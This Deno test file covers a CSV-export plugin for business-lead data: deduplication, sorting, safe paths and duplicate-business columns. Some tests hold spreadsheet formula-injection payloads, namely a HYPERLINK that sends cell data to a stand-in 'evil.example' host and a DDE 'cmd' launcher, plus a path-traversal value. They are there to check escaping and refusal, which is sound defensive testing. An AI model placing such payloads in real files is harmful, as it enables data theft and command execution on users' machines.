import assert from "node:assert/strict";
import { join } from "node:path";
import { openPlugin, runPlugin } from "@sluice/sdk/testing.ts";

const dir = new URL(".", import.meta.url);
const items = [
  {
    key: "a.com",
    domain: "a.com",
    name: 'Café, "Zur Post"',
    lead: true,
    website: { status: "parked" },
  },
  { key: "b.com", domain: "b.com", name: "B", lead: false, website: { status: "live" } },
  { key: "c.com", domain: "c.com", name: "C", lead: true, website: { status: "for_sale" } },
];

Deno.test("csv-export: retried chunks never duplicate rows; finish is idempotent", async () => {
  const dataDir = await Deno.makeTempDir();
  try {
    await using p = await openPlugin({
      dir,
      dataDir,
      config: { columns: ["domain", "name", { path: "website.status", header: "status" }] },
    });
    const out0 = await p.process(items.slice(0, 2), 0);
    assert.deepEqual(out0.items, items.slice(0, 2), "a sink passes its input through unchanged");
    await p.process(items.slice(2), 1);
    await p.process(items.slice(0, 2), 0); // chunk 0 retried
    const file = join(dataDir, "runs", "test-run", "leads.csv");
    assert.deepEqual(await p.finish(), { files: [file] }, "finish names the file for download");
    const text = await Deno.readTextFile(file);
    assert.equal(
      text,
      'domain,name,status\r\na.com,"Café, ""Zur Post""",parked\r\nc.com,C,for_sale\r\n',
    );
    assert.deepEqual(await p.finish(), { files: [file] }, "again after a repeated finish");
    assert.equal(await Deno.readTextFile(file), text);
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: all items, BOM, delimiter, custom path with {run}", async () => {
  const dataDir = await Deno.makeTempDir();
  try {
    await runPlugin({
      dir,
      dataDir,
      chunkSize: 1,
      config: {
        leadsOnly: false,
        bom: true,
        delimiter: ";",
        path: "exports/{run}-all.csv",
        columns: ["key", "lead"],
      },
      items,
    });
    const bytes = await Deno.readFile(join(dataDir, "exports", "test-run-all.csv"));
    assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
    assert.equal(
      new TextDecoder().decode(bytes.subarray(3)),
      "key;lead\r\na.com;true\r\nb.com;false\r\nc.com;true\r\n",
    );
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: a path outside the data folder is refused", async () => {
  await assert.rejects(
    runPlugin({ dir, config: { path: "../../escape.csv" }, items }),
    /outside the plugin's data folder/,
  );
});

Deno.test("csv-export: a key in two chunks gives one row (the first chunk's); unique: false keeps both", async () => {
  const dataDir = await Deno.makeTempDir();
  try {
    const branch = { ...items[0], name: "Second branch" };
    for (const unique of [true, false]) {
      await using p = await openPlugin({
        dir,
        dataDir,
        config: { unique, path: `u-${unique}.csv`, columns: ["domain", "name"] },
      });
      await p.process([items[2]], 2);
      await p.process([branch], 1); // the same key as chunk 0's first item, in a later chunk
      await p.process(items.slice(0, 2), 0);
      await p.process([branch], 1); // retried
      await p.finish();
      const text = await Deno.readTextFile(join(dataDir, `u-${unique}.csv`));
      assert.equal(
        text,
        unique
          ? 'domain,name\r\na.com,"Café, ""Zur Post"""\r\nc.com,C\r\n'
          : 'domain,name\r\na.com,"Café, ""Zur Post"""\r\na.com,Second branch\r\nc.com,C\r\n',
      );
      // The log leads with the rows written, and says why one fewer than the leads.
      const wrote = p.logs.map((l) => String(l.msg)).find((m) => m.includes("chunk(s)"));
      assert.match(
        wrote ?? "",
        unique
          ? /^csv-export: 2 row\(s\) written to \S+u-true\.csv from 3 chunk\(s\) \(1 more row\(s\) of a key already written left out: one row per key\)$/
          : /^csv-export: wrote \S+u-false\.csv from 3 chunk\(s\)$/,
      );
    }
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: a cell a spreadsheet would run as a formula is written as text", async () => {
  const evil = [{
    key: "e.com",
    domain: "e.com",
    name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    phone: "+1 555 0100",
    lead: true,
  }];
  const cases: [boolean | undefined, string][] = [
    [undefined, `'${evil[0].name}`],
    [false, evil[0].name],
  ];
  for (const [escapeFormulas, name] of cases) {
    const dataDir = await Deno.makeTempDir();
    try {
      await runPlugin({
        dir,
        dataDir,
        config: {
          columns: ["name", "phone"],
          ...(escapeFormulas === undefined ? {} : { escapeFormulas }),
        },
        items: evil,
      });
      const text = await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv"));
      const cell = name.replaceAll('"', '""');
      const phone = escapeFormulas === false ? "+1 555 0100" : "'+1 555 0100";
      assert.equal(text, `name,phone\r\n"${cell}",${phone}\r\n`, String(escapeFormulas));
    } finally {
      await Deno.remove(dataDir, { recursive: true });
    }
  }
});

Deno.test("csv-export: sort orders the rows of all chunks (hot first, ties in chunk order), retries included", async () => {
  const lead = (key: string, score: number | null, name: string) => ({
    key,
    domain: key,
    name,
    score,
    lead: true,
  });
  for (const unique of [true, false]) {
    const dataDir = await Deno.makeTempDir();
    try {
      await using p = await openPlugin({
        dir,
        dataDir,
        config: { unique, sort: ["-score", "name"], columns: ["domain", "score"] },
      });
      await p.process([lead("d.com", 40, "delta"), lead("n.com", null, "none")], 1);
      await p.process([lead("a.com", 40, "Alpha"), lead("b.com", 90, "bravo")], 0);
      await p.process([lead("c.com", 75, "c"), lead("a.com", 99, "Alpha again")], 2);
      await p.process([lead("d.com", 40, "delta"), lead("n.com", null, "none")], 1); // retried
      await p.finish();
      const text = await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv"));
      assert.equal(
        text,
        "domain,score\r\n" +
          (unique ? "" : "a.com,99\r\n") +
          "b.com,90\r\nc.com,75\r\na.com,40\r\nd.com,40\r\nn.com,\r\n",
        `unique: ${unique}`,
      );
    } finally {
      await Deno.remove(dataDir, { recursive: true });
    }
  }
});

Deno.test("csv-export: a bad sort entry stops the stage with what to write instead", async () => {
  await assert.rejects(
    // The schema refuses it too (sluice validate); the plugin's own check is for a value that
    // comes from a ${{ inputs.… }} template, which validate cannot see.
    runPlugin({
      dir,
      config: { sort: [{ path: "score", order: "down" }] },
      checkConfig: false,
      items,
    }),
    /order "down" is unknown; use "asc" or "desc"/,
  );
});

Deno.test("csv-export: a cell with a bare line break is quoted, so the row stays one row", async () => {
  const dataDir = await Deno.makeTempDir();
  try {
    await runPlugin({
      dir,
      dataDir,
      config: { columns: ["domain", "name", "city"] },
      items: [
        { key: "n.de", domain: "n.de", name: "Bäckerei\nMüller", city: "Berlin", lead: true },
        { key: "r.de", domain: "r.de", name: "Old\rMac", city: "Köln", lead: true },
      ],
    });
    const text = await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv"));
    assert.equal(
      text,
      'domain,name,city\r\nn.de,"Bäckerei\nMüller",Berlin\r\nr.de,"Old\rMac",Köln\r\n',
    );
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: negative numbers stay numbers; formulas that start with - are still escaped", async () => {
  const dataDir = await Deno.makeTempDir();
  try {
    await runPlugin({
      dir,
      dataDir,
      config: { columns: ["domain", "points", "delta", "note"] },
      items: [{
        key: "m.de",
        domain: "m.de",
        points: -15,
        delta: "-2.5",
        note: "-2+3+cmd|' /C calc'!A0",
        lead: true,
      }],
    });
    const text = await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv"));
    assert.equal(text, `domain,points,delta,note\r\nm.de,-15,-2.5,'-2+3+cmd|' /C calc'!A0\r\n`);
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: at a fixed path, a new run's file holds only its own rows", async () => {
  const dataDir = await Deno.makeTempDir();
  const lead = (key: string) => ({ key, domain: key, lead: true });
  const config = { path: "exports/latest.csv", columns: ["domain"] };
  const file = join(dataDir, "exports", "latest.csv");
  try {
    {
      // Run 1 (input A) wrote three chunks, then was cancelled: no finish.
      await using p = await openPlugin({ dir, dataDir, config, run: { id: "run-a" } });
      for (const c of [0, 1, 2]) await p.process([lead(`a${c}.de`)], c);
    }
    {
      // Run 2 (input B) has one chunk.
      await using p = await openPlugin({
        dir,
        dataDir,
        config,
        run: { id: "run-b", startedAt: Date.now() },
      });
      await p.process([lead("b0.de")], 0);
      await p.finish();
    }
    assert.equal(await Deno.readTextFile(file), "domain\r\nb0.de\r\n");
    {
      // Run 3, an hour later, finds no leads at all (no chunks): its file is empty, not run 2's.
      const hourLater = Date.now() + 3_600_000;
      await using p = await openPlugin({
        dir,
        dataDir,
        config,
        run: { id: "run-c", startedAt: hourLater },
      });
      await p.finish();
    }
    assert.equal(await Deno.readTextFile(file), "domain\r\n");
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: at a fixed path, an older run finishing last leaves the newer run's file and offers its own", async () => {
  const dataDir = await Deno.makeTempDir();
  const lead = (key: string) => ({ key, domain: key, lead: true });
  const config = { path: "exports/latest.csv", columns: ["domain"] };
  const file = join(dataDir, "exports", "latest.csv");
  const now = Date.now();
  try {
    // Two runs at once: "early" started first, "late" a minute later; "late" finishes first.
    await using early = await openPlugin({
      dir,
      dataDir,
      config,
      run: { id: "early", startedAt: now - 60_000 },
    });
    await early.process([lead("e0.de"), lead("e1.de")], 0);
    {
      await using late = await openPlugin({
        dir,
        dataDir,
        config,
        run: { id: "late", startedAt: now },
      });
      await late.process([lead("l0.de")], 0);
      assert.deepEqual(await late.finish(), { files: [file] });
    }
    const own = join(dataDir, "runs", "early", "latest.csv");
    assert.deepEqual(await early.finish(), { files: [own] }, "its download is its own rows");
    assert.equal(await Deno.readTextFile(file), "domain\r\nl0.de\r\n", "the later run's file");
    assert.equal(await Deno.readTextFile(own), "domain\r\ne0.de\r\ne1.de\r\n");
    const warn = early.logs.find((l) => l.level === "warn")?.msg ?? "";
    assert.match(warn, /holds the file of run late, started later/);
    assert.ok(warn.includes(own), warn);
    assert.deepEqual(await early.finish(), { files: [own] }, "a repeated finish gives the same");
    assert.equal(await Deno.readTextFile(own), "domain\r\ne0.de\r\ne1.de\r\n");
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: a misspelt column or sort path is named once in the run log, with the close name", async () => {
  const dataDir = await Deno.makeTempDir();
  try {
    const { logs } = await runPlugin({
      dir,
      dataDir,
      config: {
        columns: ["domain", "webiste.status", "rdap.expires"],
        sort: [{ path: "scroe", order: "desc" }],
      },
      items: [
        { ...items[0], score: 70 },
        { ...items[2], score: 40 },
      ],
      chunkSize: 1,
    });
    const warned = logs.filter((l) => l.level === "warn").map((l) => String(l.msg));
    assert.deepEqual(warned, [
      'csv-export: columns[1]: no item of this chunk has "webiste" (webiste.status), but they ' +
      'have "website"; did you mean website.status? The column stays empty (a sort key sorts ' +
      "nothing) until the path in the stage's `with` is fixed.",
      'csv-export: sort[0]: no item of this chunk has "scroe" (scroe), but they have "score"; ' +
      "did you mean score? The column stays empty (a sort key sorts nothing) until the path in " +
      "the stage's `with` is fixed.",
    ], "once each over two chunks; rdap (no item has it, nothing close) is no misspelling");
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: the same business under two domains (chunks apart) names the other in same_business_as", async () => {
  const dataDir = await Deno.makeTempDir();
  const lead = (domain: string, name: string, city: string, score: number) => ({
    key: domain,
    domain,
    name,
    city,
    country: "DE",
    score,
    lead: true,
  });
  const list = [
    lead("mueller-baeckerei.de", "Bäckerei Müller GmbH", "Köln", 60),
    lead("other.de", "Other Shop", "Köln", 70),
    lead("mueller-koeln.de", "Baeckerei Mueller", "Koeln", 90),
    lead("mueller-berlin.de", "Bäckerei Müller", "Berlin", 80), // another city: another business
    lead("mueller-backwaren.com", "Bäckerei Müller", "Köln", 50),
  ];
  try {
    const { logs } = await runPlugin({
      dir,
      dataDir,
      chunkSize: 2,
      config: { columns: ["domain", "same_business_as", "score"], sort: ["-score"] },
      items: list,
    });
    const text = await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv"));
    assert.equal(
      text,
      "domain,same_business_as,score\r\n" +
        "mueller-koeln.de,mueller-baeckerei.de; mueller-backwaren.com,90\r\n" +
        "mueller-berlin.de,,80\r\n" +
        "other.de,,70\r\n" +
        "mueller-baeckerei.de,mueller-koeln.de; mueller-backwaren.com,60\r\n" +
        "mueller-backwaren.com,mueller-baeckerei.de; mueller-koeln.de,50\r\n",
    );
    const said = logs.map((l) => String(l.msg)).find((m) => m.includes("more than one domain"));
    assert.match(said ?? "", /1 business\(es\) appear under more than one domain/);
    assert.match(said ?? "", /mueller-baeckerei\.de = mueller-koeln\.de = mueller-backwaren\.com/);
    assert.equal(logs.filter((l) => l.level === "warn").length, 0, "the column is not a typo");

    // unique: false and no sort: every row, the column still filled.
    await runPlugin({
      dir,
      dataDir,
      chunkSize: 2,
      config: { path: "all.csv", unique: false, columns: ["domain", "same_business_as"] },
      items: [list[0], list[0], list[2]],
    });
    assert.equal(
      await Deno.readTextFile(join(dataDir, "all.csv")),
      "domain,same_business_as\r\nmueller-baeckerei.de,mueller-koeln.de\r\n" +
        "mueller-baeckerei.de,mueller-koeln.de\r\nmueller-koeln.de,mueller-baeckerei.de\r\n",
    );

    // Without the column the rows are as before and the log says how to list them.
    const plain = await runPlugin({
      dir,
      dataDir,
      chunkSize: 2,
      config: { path: "plain.csv", columns: ["domain"] },
      items: list,
    });
    assert.equal(
      await Deno.readTextFile(join(dataDir, "plain.csv")),
      "domain\r\n" + list.map((i) => i.domain + "\r\n").join(""),
    );
    assert.ok(
      plain.logs.some((l) => /Add the column same_business_as/.test(String(l.msg))),
      JSON.stringify(plain.logs),
    );
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: also_listed_as names the other rows of a domain, merged in a chunk or chunks apart", async () => {
  const dataDir = await Deno.makeTempDir();
  const lead = (domain: string, name: string, city: string, phone = "", extra = {}) => ({
    key: domain,
    domain,
    name,
    city,
    phone,
    lead: true,
    ...extra,
  });
  const list = [
    // normalize merged the Portland branch and an exact repeat into the Raleigh row.
    lead("reed-dental.com", "Reed Dental Care", "Raleigh", "+1 919-555-0101", {
      duplicates: [
        { key: "row-7", name: "Reed Dental Care", city: "Portland", phone: "+1 503-555-0144" },
        { key: "row-9", name: "Reed Dental Care", city: "Raleigh" },
      ],
    }),
    lead("solo.de", "Solo", "Berlin"),
    // The same domain in a later chunk: a third branch, left out as a row, named in the first.
    lead("reed-dental.com", "Reed Dental Care", "Tucson", "+1 520-555-0177"),
  ];
  try {
    const { logs } = await runPlugin({
      dir,
      dataDir,
      chunkSize: 2,
      config: { columns: ["domain", "city", "also_listed_as"] },
      items: list,
    });
    const text = await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv"));
    assert.equal(
      text,
      "domain,city,also_listed_as\r\n" +
        'reed-dental.com,Raleigh,"Reed Dental Care, Portland, +1 503-555-0144; Reed Dental Care, ' +
        'Tucson, +1 520-555-0177"\r\n' +
        "solo.de,Berlin,\r\n",
    );
    const said = logs.map((l) => String(l.msg)).find((m) => m.includes("also_listed_as"));
    assert.match(said ?? "", /1 domain\(s\) are listed by more than one business or branch/);
    assert.equal(logs.filter((l) => l.level === "warn").length, 0, "the column is not a typo");
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: \"*\" writes the input's other columns (a CRM's record id) where it stands", async () => {
  const dataDir = await Deno.makeTempDir();
  const items = [
    {
      key: "a.de",
      domain: "a.de",
      name: "A",
      "Record ID": "0015",
      address: "Weg 1",
      website: { status: "parked" },
      lead: true,
      score: 80,
    },
    {
      key: "b.de",
      domain: "b.de",
      name: "B",
      "Record ID": "0016",
      "Contact Person": "=Eva",
      lead: true,
      score: 90,
    },
    // A later row of a key: left out, and so is its column that no kept row has.
    { key: "a.de", domain: "a.de", name: "A2", Fax: "123", lead: true, score: 10 },
  ];
  try {
    await runPlugin({
      dir,
      dataDir,
      chunkSize: 1,
      config: { columns: ["domain", "*", "score"], sort: ["-score"] },
      items,
    });
    assert.equal(
      await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv")),
      "domain,name,Record ID,address,Contact Person,score\r\n" +
        "b.de,B,0016,,'=Eva,90\r\n" +
        "a.de,A,0015,Weg 1,,80\r\n",
    );
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: a column's own escapeFormulas: false writes phone_e164 as it is, the rest guarded", async () => {
  const dataDir = await Deno.makeTempDir();
  const items = [{
    key: "a.pt",
    domain: "a.pt",
    phone: "+351 21 082 6315",
    phone_e164: "+351210826315",
    "Record ID": "=1+1",
    lead: true,
  }];
  try {
    for (
      const [path, columns] of [
        ["plain.csv", ["domain", "phone", { path: "phone_e164", escapeFormulas: false }]],
        // With "*" the row is written at the end, from its cells: the same setting holds.
        ["star.csv", ["domain", "phone", { path: "phone_e164", escapeFormulas: false }, "*"]],
      ] as const
    ) {
      await runPlugin({ dir, dataDir, config: { path, columns }, items });
      assert.equal(
        await Deno.readTextFile(join(dataDir, path)),
        path === "plain.csv"
          ? "domain,phone,phone_e164\r\na.pt,'+351 21 082 6315,+351210826315\r\n"
          : "domain,phone,phone_e164,Record ID\r\na.pt,'+351 21 082 6315,+351210826315,'=1+1\r\n",
      );
    }
    await assert.rejects(
      runPlugin({
        dir,
        dataDir,
        config: { columns: [{ path: "phone_e164", escapeFormulas: "no" }] },
        items,
      }),
      /escapeFormulas/,
    );
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: every input record of a domain is matchable: also_listed_as names the merged rows' record ids", async () => {
  const dataDir = await Deno.makeTempDir();
  // normalize merged 2002 (York) and 2003 (Leeds, no phone) into 2001 (Leeds): one lead row.
  const items = [{
    key: "pricesflowers.co.uk",
    domain: "pricesflowers.co.uk",
    name: "Price's Flowers",
    city: "Leeds",
    phone: "+44 113 496 0001",
    "Record ID": "2001",
    domain_input: "https://pricesflowers.co.uk/kontakt", // normalize's: the input's Website cell
    lead: true,
    duplicates: [
      {
        key: "row-2",
        name: "Price's Flowers",
        city: "York",
        phone: "+44 1904 000",
        "Record ID": "2002",
      },
      { key: "row-3", name: "Price's Flowers", city: "Leeds", "Record ID": "2003" },
    ],
  }];
  try {
    await runPlugin({
      dir,
      dataDir,
      config: { columns: ["domain", "city", "also_listed_as", "*"] },
      items,
    });
    assert.equal(
      await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv")),
      "domain,city,also_listed_as,name,phone,Record ID,website_input\r\n" +
        "pricesflowers.co.uk,Leeds,\"Price's Flowers, York, +44 1904 000, Record ID: 2002; " +
        "Price's Flowers, Leeds, Record ID: 2003\",Price's Flowers,'+44 113 496 0001,2001," +
        "https://pricesflowers.co.uk/kontakt\r\n",
    );
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});

Deno.test("csv-export: same_business_as and website_elsewhere weigh every row the stage saw, also those not exported (a live site)", async () => {
  const dataDir = await Deno.makeTempDir();
  const row = (domain: string, name: string, city: string, status: string, phone = "") => ({
    key: domain,
    domain,
    name,
    city,
    phone,
    website: { status },
    lead: status !== "live" && status !== "redirect",
  });
  const list = [
    row("millercafetucson.com", "Miller Cafe", "Tucson", "parked", "+1 520-555-0101"),
    row("other.com", "Other", "Tucson", "live"),
    // Chunks apart, not a lead, so never written: the lead must still say so.
    row("millercafe.com", "Miller Cafe", "Tucson", "live", "+1 (520) 555-0101"),
    row(
      "manchesteraccounting.co.uk",
      "Manchester Accounting",
      "Manchester",
      "parked",
      "+44 20 7946 0814",
    ),
    row(
      "manchesteraccountingmanchester.co.uk",
      "Manchester Accounting",
      "Manchester",
      "no_dns",
      "+44 20 7946 0679",
    ),
  ];
  try {
    await runPlugin({
      dir,
      dataDir,
      chunkSize: 2,
      config: { columns: ["domain", "same_business_as", "website_elsewhere"] },
      items: list,
    });
    assert.equal(
      await Deno.readTextFile(join(dataDir, "runs", "test-run", "leads.csv")),
      "domain,same_business_as,website_elsewhere\r\n" +
        // The same phone in another spelling is not repeated.
        "millercafetucson.com,millercafe.com (live),millercafe.com\r\n" +
        'manchesteraccounting.co.uk,"manchesteraccountingmanchester.co.uk (no_dns, +44 20 7946 0679)",\r\n' +
        'manchesteraccountingmanchester.co.uk,"manchesteraccounting.co.uk (parked, +44 20 7946 0814)",\r\n',
    );
    // A retried chunk rewrites its part: its rows count once.
    await using p = await openPlugin({
      dir,
      dataDir,
      config: { path: "retry.csv", columns: ["domain", "same_business_as", "website_elsewhere"] },
    });
    await p.process(list.slice(0, 1), 0);
    await p.process(list.slice(2, 3), 1);
    await p.process(list.slice(2, 3), 1);
    await p.finish();
    assert.equal(
      await Deno.readTextFile(join(dataDir, "retry.csv")),
      "domain,same_business_as,website_elsewhere\r\n" +
        "millercafetucson.com,millercafe.com (live),millercafe.com\r\n",
    );
  } finally {
    await Deno.remove(dataDir, { recursive: true });
  }
});
